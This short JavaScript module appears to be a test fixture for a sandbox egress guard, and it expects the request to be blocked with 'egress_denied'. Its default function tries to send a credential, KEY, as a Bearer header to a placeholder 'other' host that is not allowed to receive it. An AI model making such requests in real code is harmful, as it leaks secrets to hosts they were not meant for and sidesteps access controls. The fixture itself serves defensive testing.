export const attempt = {
  tries: "to send an exposed value to another host in a header",
  blockedBecause: "requests to other hosts are searched for it",
  ends: { code: "egress_denied", message: "the credential KEY is not allowed for this host" },
  hostUsage: { host: "{other}", reason: "the credential KEY is not allowed for this host" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
  keyIsExposed: true,
};

export default async ({ other }, { credentials }) => {
  await fetch(`http://${other}/reached`, { headers: { "x-key": `Bearer ${credentials.KEY}` } });
  return "got through";
};
